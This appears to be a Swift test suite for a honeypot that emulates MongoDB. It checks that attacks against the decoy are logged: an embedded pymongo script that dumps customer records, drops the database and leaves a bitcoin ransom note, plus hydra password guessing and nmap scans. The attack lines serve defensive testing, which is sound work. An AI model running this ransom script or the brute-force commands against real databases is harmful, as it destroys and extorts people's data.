import DecnetCore
import DecnetTesting
import Foundation
import Testing

@testable import DecnetServices

/// The mongodb service against pymongo (the official driver: handshake, SCRAM, list, find, the ransom pattern),
/// hydra's mongodb module (libmongoc) and nmap (-sV and the mongodb scripts on a release that still serves them).
@Suite struct MongoDBLiveTests {
    static var pymongo: Bool { ExternalTool.pythonCanImport("pymongo") || ExternalTool.isCI }

    @Test(.enabled(if: pymongo && ExternalTool.nmap.isUsable, "needs pymongo (PyPI) and nmap (required under CI)"))
    func pymongoDumpsDropsAndLeavesANoteAndEveryStepIsRecorded() async throws {
        let python = try #require(ExternalTool.python3.path, "\(ExternalTool.python3.missingMessage)")
        let nmap = try #require(ExternalTool.nmap.path, "\(ExternalTool.nmap.missingMessage)")
        let service = try await LiveService.start(
            "mongodb",
            persona: ["mongo_version": "6.0.14", "users": "admin:S3cure!Pass"],
            host: "127.77.27.1",
            port: 27017,
            osFamily: .linux,
            hostname: "db-prod-01"
        )
        let script = """
            import pymongo, sys
            from pymongo.errors import OperationFailure
            client = pymongo.MongoClient("127.77.27.1", 27017, serverSelectionTimeoutMS=30000, appname="ransom-kit")
            print("server", client.server_info()["version"])
            print("databases", ",".join(client.list_database_names()))
            crm = client["crm"]
            print("collections", ",".join(sorted(crm.list_collection_names())))
            dump = list(crm["customers"].find({}))
            print("dumped", len(dump), dump[0]["email"])
            print("gold", crm["customers"].count_documents({"tier": "gold"}))
            client.drop_database("crm")
            note = client["READ__ME_TO_RECOVER_YOUR_DATA"]["README"]
            note.insert_one({"content": "All your data is backed up. You must pay 0.0071 BTC to bc1qdecnet"})
            print("after", ",".join(client.list_database_names()))
            good = pymongo.MongoClient("mongodb://admin:S3cure!Pass@127.77.27.1:27017/?authSource=admin",
                                       serverSelectionTimeoutMS=30000)
            print("login", good.admin.command("ping")["ok"])
            for mechanism in ("SCRAM-SHA-256", "SCRAM-SHA-1"):
                bad = pymongo.MongoClient("mongodb://admin:hunter2@127.77.27.1:27017/?authSource=admin&authMechanism="
                                          + mechanism, serverSelectionTimeoutMS=30000)
                try:
                    bad.admin.command("ping")
                    print("bad login accepted", mechanism)
                except OperationFailure as error:
                    print("refused", mechanism, error.code, error.details.get("errmsg"))
            """
        let run = try await ProcessRunner.run(python, ["-c", script])
        let output = run.standardOutput
        #expect(run.status == 0, "\(output)\(run.standardError)")
        #expect(output.contains("server 6.0.14\n"), "\(output)")
        #expect(output.contains("databases admin,config,local,crm\n"), "\(output)")
        #expect(output.contains("collections customers,orders,users\n"), "\(output)")
        #expect(output.contains("dumped 8 laura.hoffmann@brightline-logistics.de"), "\(output)")
        #expect(output.contains("gold 3\n"), "\(output)")
        #expect(output.contains("after admin,config,local,READ__ME_TO_RECOVER_YOUR_DATA\n"), "\(output)")
        #expect(output.contains("login 1.0\n"), "\(output)")
        #expect(output.contains("refused SCRAM-SHA-256 18 Authentication failed."), "\(output)")
        #expect(output.contains("refused SCRAM-SHA-1 18 Authentication failed."), "\(output)")

        // nmap -sV: a real 6.0 refuses nmap's OP_QUERY probe, and nmap names it from its answer to HTTP.
        let scan = try await ProcessRunner.run(nmap, ["-sV", "-Pn", "-n", "-p", "27017", "127.77.27.1"])
        await service.stop()
        #expect(
            scan.standardOutput.contains("27017/tcp open  mongodb MongoDB 2.5.1 or later"),
            "\(scan.standardOutput)"
        )

        let fingerprint = try #require(
            service.capture.events(.clientFingerprint).first { $0[field: "application"] != nil }
        )
        #expect(fingerprint[field: "application"] == "ransom-kit")
        #expect(fingerprint[field: "driver"]?.hasPrefix("PyMongo") == true, "\(fingerprint)")
        let commands = service.capture.events(.commandInput)
        #expect(commands.contains { $0[field: "command"] == "find" && $0[field: "collection"] == "customers" })
        #expect(
            commands.contains { $0[field: "command"] == "insert" && $0[field: "input"]?.contains("0.0071 BTC") == true }
        )
        let writes = service.capture.events(.payloadReceived).compactMap { $0[field: "write"] }
        #expect(writes.contains("dropDatabase") && writes.contains("insert"), "\(writes)")
        #expect(service.capture.events(.loginSuccess).contains { $0[field: "username"] == "admin" })
        // Each refused attempt can be confirmed offline against the password the client used.
        let failures = service.capture.events(.loginFailed)
        #expect(failures.count == 2)
        for failure in failures {
            let mechanism = try #require(SCRAMConversation.Mechanism(rawValue: failure[field: "method"] ?? ""))
            let salt = try #require(failure[field: "salt"].flatMap { Data(base64Encoded: $0) })
            for (guess, matches) in [("hunter2", true), ("S3cure!Pass", false)] {
                #expect(
                    SCRAMConversation.proofMatches(
                        mechanism: mechanism,
                        user: "admin",
                        password: guess,
                        salt: Array(salt),
                        authMessage: failure[field: "auth_message"] ?? "",
                        proof: failure[field: "proof"] ?? ""
                    ) == matches
                )
            }
        }
        // nmap's GetRequest probe got mongod's plain-text answer (what named the service), and was recorded.
        #expect(
            service.capture.events(.clientMalformed).contains {
                $0[field: "error"] == "HTTP request on the driver port"
            }
        )
    }

    static let hydra = ExternalTool("hydra", package: "hydra")

    /// hydra's mongodb module (libmongoc underneath) on a server that requires logins: a wrong guess is captured
    /// with its SCRAM proof, and the right one is found. (hydra 9.4 gives up on a user after its first wrong
    /// password, against a real mongod too, so each run here makes one guess.)
    @Test(.enabled(if: hydra.isUsable, "needs hydra (required under CI)"))
    func hydraFindsThePasswordAndEveryGuessIsCaptured() async throws {
        let hydra = try #require(Self.hydra.path, "\(Self.hydra.missingMessage)")
        let service = try await LiveService.start(
            "mongodb",
            persona: ["mongo_version": "6.0.14", "mongo_auth": "true", "users": "admin:S3cure!Pass"],
            host: "127.77.27.2",
            port: 27017,
            osFamily: .linux,
            hostname: "db-prod-02"
        )
        let wrong = try await ProcessRunner.run(
            hydra,
            ["-l", "root", "-p", "toor", "-t", "1", "mongodb://127.77.27.2"]
        )
        #expect(
            wrong.standardOutput.contains("0 valid password found"),
            "\(wrong.standardOutput)\(wrong.standardError)"
        )
        let run = try await ProcessRunner.run(
            hydra,
            ["-l", "admin", "-p", "S3cure!Pass", "-t", "1", "mongodb://127.77.27.2"]
        )
        await service.stop()
        #expect(
            run.standardOutput.contains("[27017][mongodb] host: 127.77.27.2   login: admin   password: S3cure!Pass"),
            "\(run.standardOutput)\(run.standardError)"
        )
        let guesses = service.capture.events(.loginFailed)
        #expect(guesses.contains { $0[field: "username"] == "root" && $0[field: "proof"]?.isEmpty == false })
        #expect(service.capture.events(.loginSuccess).contains { $0[field: "username"] == "admin" })
        // hydra asks first whether the server needs a login at all (legacy listDatabases): recorded too.
        #expect(service.capture.events(.commandInput).contains { $0[field: "command"] == "listDatabases" })
    }

    /// A 4.4 persona still serves OP_QUERY commands: nmap's probe names its version and the mongodb scripts
    /// read its build and databases, as they read a real 4.4.
    @Test(.enabled(if: ExternalTool.nmap.isUsable, "needs nmap (required under CI)"))
    func nmapsScriptsReadA44Server() async throws {
        let nmap = try #require(ExternalTool.nmap.path, "\(ExternalTool.nmap.missingMessage)")
        let service = try await LiveService.start(
            "mongodb",
            persona: ["mongo_version": "4.4.29"],
            host: "127.77.27.3",
            port: 27017,
            osFamily: .linux,
            hostname: "db-legacy"
        )
        let scan = try await ProcessRunner.run(
            nmap,
            ["-sV", "-Pn", "-n", "-p", "27017", "--script", "mongodb-info,mongodb-databases", "127.77.27.3"]
        )
        await service.stop()
        let output = scan.standardOutput
        #expect(output.contains("27017/tcp open  mongodb MongoDB 4.4.29"), "\(output)")
        #expect(output.contains("version = 4.4.29"), "\(output)")
        #expect(output.contains("name = crm"), "\(output)")
        #expect(output.contains("process = mongod"), "\(output)")
    }
}
